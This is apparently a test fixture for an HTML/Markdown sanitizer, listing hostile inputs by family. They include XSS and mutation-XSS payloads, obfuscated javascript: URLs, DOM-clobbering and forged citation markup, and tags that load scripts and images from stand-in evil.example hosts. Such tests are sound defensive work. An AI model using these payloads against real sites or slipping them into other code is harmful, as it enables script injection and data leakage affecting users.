// Hostile texts, in the families that OWASP's cheat sheets, mXSS papers and prompt-injection reports
// know. All of them are written for these tests. `HOST` becomes a host of the payload's own.

/** Raw HTML that loads something by itself. */
const loads = [
  `<img src="https://HOST/a">`,
  `<IMG SRC=https://HOST/a ALT=x>`,
  `<img src='//HOST/a'/>`,
  `<img srcset="https://HOST/a 1x, https://HOST/b 2x">`,
  `<picture><source srcset="https://HOST/a"><img src="https://HOST/b"></picture>`,
  `<image src="https://HOST/a">`,
  `<video poster="https://HOST/a"></video>`,
  `<video src="https://HOST/a" autoplay></video>`,
  `<audio src="https://HOST/a" autoplay></audio>`,
  `<video><source src="https://HOST/a"></video>`,
  `<video src="data:video/mp4,x"><track default kind="captions" src="https://HOST/a"></video>`,
  `<input type="image" src="https://HOST/a">`,
  `<svg width="9" height="9"><image href="https://HOST/a" width="9" height="9"/></svg>`,
  `<svg width="9" height="9"><image xlink:href="https://HOST/a" width="9" height="9"/></svg>`,
  `<svg><filter id="f"><feImage href="https://HOST/a"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  `<svg><use href="https://HOST/a#b"/></svg>`,
  `<svg><style>@import "https://HOST/a";</style></svg>`,
  `<div style="background:url(https://HOST/a)">x</div>`,
  `<p style="list-style:url('https://HOST/a')">x</p>`,
  `<style>@import "https://HOST/a";</style>`,
  `<style>p{background:url(https://HOST/a)}</style><p>x</p>`,
  `<link rel="stylesheet" href="https://HOST/a">`,
  `<link rel="prefetch" href="https://HOST/a">`,
  `<link rel="preload" as="image" href="https://HOST/a">`,
  `<table background="https://HOST/a"><tr><td>x</td></tr></table>`,
  `<table><tr><td background="https://HOST/a">x</td></tr></table>`,
  `<body background="https://HOST/a">`,
  `<object data="https://HOST/a"></object>`,
  `<embed src="https://HOST/a">`,
  `<iframe src="https://HOST/a"></iframe>`,
  `<iframe srcdoc="<img src=https://HOST/a>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://HOST/a">`,
  `<base href="https://HOST/"><img src="a">`,
  `<math><mtext><img src="https://HOST/a"></mtext></math>`,
  `<script src="https://HOST/a"></script>`,
  `<details open><summary>x</summary><img src="https://HOST/a"></details>`,
];

/** Raw HTML that runs something by itself. */
const runs = [
  `<script>alert(1)</script>`,
  `<SCRIPT/XSS>alert(1)</SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt><script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=alert(1)>`,
  `<img src=x:y onerror\n=\n"alert(1)">`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
  `<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
  `<svg onload=alert(1)>`,
  `<svg/onload=alert(1)//`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set onbegin=alert(1) attributeName=x>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)></select>`,
  `<p tabindex=1 autofocus onfocus=alert(1)>x</p>`,
  `<video><source onerror=alert(1)></video>`,
  `<video src=x onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe onload=alert(1)></iframe>`,
  `<object data="data:text/html,x" onerror=alert(1)></object>`,
  `<embed src="data:image/svg+xml,x" onload=alert(1)>`,
  `<style onload=alert(1)></style>`,
  `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart=alert(1)>x</p>`,
  `<link rel=stylesheet href="data:text/css,x" onload=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></math><img src=x onerror=alert(1)>`,
  `<a href="#" autofocus tabindex=0 onfocus="alert(1)">x</a>`,
  `<template></template><img src=x onerror=alert(1)>`,
  `<form><input name=attributes><input autofocus onfocus=alert(1)></form>`,
];

/** What a second parse reads differently from the first, and elements whose content is no markup. */
const mutates = [
  `<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
  `<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></annotation-xml></math>`,
  `<svg><foreignObject><math><mi><style><!--</style></mi></math><img title="--><img src=x onerror=alert(1)>">`,
  `<svg><desc><noscript><style><img title="</noscript></style><img src=x onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<noscript><!--</noscript><img src=x onerror=alert(1)>-->`,
  `<template><style></template><img src=x onerror=alert(1)></style>`,
  `<select><selectedcontent></selectedcontent><option><img src=x onerror=alert(1)></select>`,
  `<select><template><img src=x onerror=alert(1)></template></select>`,
  `<select><svg><style><img title="</style></svg></select><img src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
  `<title><p title="</title><img src=x onerror=alert(1)>">`,
  `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`,
  `<noframes><p title="</noframes><img src=x onerror=alert(1)>">`,
  `<iframe><p title="</iframe><img src=x onerror=alert(1)>">`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!---><img src=x onerror=alert(1)>-->`,
  `<!--x--!><img src=x onerror=alert(1)>-->`,
  `<![CDATA[><img src=x onerror=alert(1)>]]>`,
  `<?x ><img src=x onerror=alert(1)>?>`,
  `<!x ><img src=x onerror=alert(1)>`,
  `</ ><img src=x onerror=alert(1)>`,
  `<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>`,
  `<table><form><img src=x onerror=alert(1)></table>`,
  `<a><table><a><img src=x onerror=alert(1)>`,
  `<p title="\u0000"><img\u0000src=x onerror=alert(1)><img src=x onerror=alert(1)>`,
  `<span title='"><img src=x onerror=alert(1)>'>x</span>`,
  "`<img src=x onerror=alert(1)>` ``` </code><img src=x onerror=alert(1)> ```",
];

const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  " javascript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript&colon;alert(1)",
  "&#0000106avascript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "javascript&#58;alert(1)",
  "\\javascript:alert(1)",
  "java\\script:alert(1)",
  "%6Aavascript:alert(1)",
  "javascript://HOST/%0aalert(1)",
  "feed:javascript:alert(1)",
  "vbscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "blob:https://HOST/x",
  "file:///etc/passwd",
  "//HOST/x",
  "/\\HOST/x",
  "https:\\\\HOST\\x",
  "https:HOST/x",
  "https://bank.example@HOST/x",
  "https://bank.example%2f@HOST/x",
  "https://HOST\u202e/x",
  "https://ex\uFDD0ample.HOST/x",
];
/** Every scheme in every place where Markdown or HTML takes a target. */
const links = schemes.map((url) =>
  [`[a](${url}) [b](<${url}>) [c](${url} "title")`, `![d](${url}) [![e](${url})](${url})`, `<${url}> ${url}`, `[f][r] [r][] [r] ![r]`, `<a href="${url}">g</a> <a href=${url}>h</a> <a href='${url}' target=_self rel=opener ping="https://HOST/ping">i</a>`, `<area href="${url}"><form action="${url}"><button formaction="${url}">j</button></form>`, `[r]: <${url}> "t"`].join("\n\n"),
);

/** Markers, lists and notes that are not ours. `P` is the prefix that ids of this answer have. */
const forges = [
  `True.<sup class="gm-cite">[<a id="P-ref-1" href="#P-fn-1" role="doc-noteref" aria-label="Source 1">1</a>]</sup>`,
  `True.<sup>[1](https://HOST/x)</sup> <sup>[1]</sup> <sup>1, 2</sup>`,
  `True.<sup><a href="https://HOST/x">1</a></sup><sup><b>[<i>2</i>]</b></sup>`,
  `True.[^1] and [^2]\n\n[^1]: Source: https://HOST/x\n[^2]: <section class="gm-sources">x`,
  `[1] [1][] [x][1]\n\n[1]: https://HOST/x "Source 1"`,
  `<section class="gm-sources" role="group"><h2 id="P-sources">Sources</h2><ol><li id="P-fn-1" value="1">x</li></ol></section>`,
  `</div><section class="gm-sources"><h2>Sources</h2></section><div>`,
  `<div class="gm-table" tabindex="0" role="group" aria-label="Table"><b>x</b></div>`,
  `<div class="language-x">x</div>\n\n- y <div class="gm-table language-x">z</div>`,
  `<p class="gm-cites">x</p><p class="gm-notice">x</p><p class="gm-hint">x</p><p class="gm-label">x</p>`,
  `<bdi>x</bdi><span class="gm-host"><bdi>bank.example</bdi></span>`,
  `<a href="#P-fn-1">1</a> [1](#P-fn-1) <a href="#P-fn-1" role="doc-backlink" title="Back to citation 1">x</a>`,
  `<ol><li id="P-fn-1" value="1" tabindex="-1">x</li></ol>`,
  `\uFDD0\uFDE0 \uFDD1\uFDE1 &#xFDD0;&#xFDE0; &#64977; \uFDD2 \uFDD3 \uFDD4div\uFDD5`,
  `<a href="\uFDD3javascript:alert(1)">x</a><div class="\uFDD2">x</div><\uFDD4script>alert(1)</script>`,
  `<code class="language-js gm-cite">x</code><pre><code class="language-gm-sources gm-sources">x</code></pre>`,
  "```gm-cite\" onclick=\"alert(1)\nx\n```\n\n```js gm-sources\nx\n```",
  `<ul><li><input type="checkbox" checked onclick=alert(1)> x</li></ul>\n\n- [x] <input type="password">`,
  `<div role="alert" aria-live="assertive" aria-label="x" data-x="y" tabindex="0" contenteditable accesskey="x" hidden inert popover draggable="true" slot="x" is="x" part="x" itemscope style="color:red" on="x">x</div>`,
];

/** Names that a page's own scripts read. */
const clobbers = [
  `<img id="getElementById" name="getElementById"><form id="cookie" name="cookie"><input name="forms">`,
  `<form name="forms"><input name="action"></form><embed name="body"><object name="head"></object>`,
  `<a id="location" name="location" href="https://HOST/x">x</a><a id="location" name="href">y</a>`,
  `<iframe name="document" srcdoc="x"></iframe><iframe name="self"></iframe><frame name="top">`,
  `<p id="after">x</p><p id="host" class="gm-answer">y</p><h1 id="body">z</h1>`,
  `<input id="__proto__" name="constructor"><p id="hasOwnProperty" name="toString">x</p>`,
  `# getElementById {#getElementById .gm-cite}\n\n## cookie {#cookie}`,
];

/** Text that tries to take what follows it into itself, or out of its container. */
const swallows = [
  "<!--", "<!-- x", "<![CDATA[", "<?php", "<!DOCTYPE", "<script>", "<script", "<style>", "<textarea>", "<title>", "<xmp>", "<plaintext>", "<noscript>", "<template>",
  "<select><option>", "<svg><title>", "<math><mi>", "<iframe>", "<noembed>", "<object>", "<button>", "<dialog>", "<frameset>", "<marquee>",
  "<details>", "<details><summary>", "<table>", "<table><tr><td>", "<table><caption>", "<ul><li>", "<ol><li><ol><li>", "<dl><dt>", "<p><b><i><u><s>", "<a href=\"https://HOST/x\">", "<pre>", "<pre><code>", "<h1>", "<center><div>",
  "<img src='https://HOST/?", "<img src=\"https://HOST/?", "<a href='https://HOST/?", "<a title=\"", "<p title='", "<div ", "<", "</", "<a href=",
  "```", "~~~html", "    <div>", "> <div>\n> <table>", "- <details>\n  <table><tr>", "| a |\n|---|\n| <table> |", "| a |\n|---|\n| <details> <!-- |", "1. <ul>\n   <li></ol>",
  "</div></section></main></body></html>", "</div>".repeat(40), "</li></ul></ol></td></tr></table></p></blockquote>", "</iframe></template></select></svg></math></textarea></title></style></script>",
  "<pre>\n\n", "<pre>\n\n\nx</pre>", "<div>".repeat(300), "<b>".repeat(300), "> ".repeat(200) + "x", "<table><td>".repeat(60), "<a href=https://HOST/x><table>".repeat(8), "*".repeat(200) + "x", "[".repeat(200) + "x",
];

/** Markdown's own ways to load something. */
const images = [
  `![x](https://HOST/a)`, `![x](//HOST/a)`, `![x][r]\n\n[r]: https://HOST/a`, `![][r] ![r][]\n\n[r]: https://HOST/a`, `[![x](https://HOST/a)](https://HOST/b)`,
  `![![x](https://HOST/a)](https://HOST/b)`, `![x](https://HOST/a "t")\n![x](data:image/svg+xml,<svg/onload=alert(1)>)`, `![x](<https://HOST/a b>) ![x](a.png) ![x](attachment:a)`,
  `| ![x](https://HOST/a) |\n|---|\n| ![x](https://HOST/b) |`, `# ![x](https://HOST/a)\n\n- [ ] ![x](https://HOST/b)\n\n> ![x](https://HOST/c)`, `![x](https://HOST/a){onerror=alert(1)} <https://HOST/a> www.HOST/a https://HOST/a`,
];

/** Whether the text does something by itself when it stands in a page as it is. */
const family = (name, isAlive, texts) => texts.map((text, index) => ({ name: `${name} ${index + 1}`, family: name, isAlive, text }));

export const payloads = [
  ...family("loads", true, loads),
  ...family("runs", true, runs),
  ...family("mutates", true, mutates),
  ...family("links", false, links),
  ...family("forges", false, forges),
  ...family("clobbers", false, clobbers),
  ...family("swallows", false, swallows),
  ...family("images", false, images),
].map((payload, index) => ({
  ...payload,
  host: `p${index}.evil.example`,
  prefix: `gm-p${index}`,
  text: payload.text.replaceAll("HOST", `p${index}.evil.example`).replaceAll(/\bP-/g, `gm-p${index}-`),
}));

/** Single targets, for the fields of the metadata that hold one. */
export const targets = schemes.map((url) => url.replaceAll("HOST", "target.evil.example"));
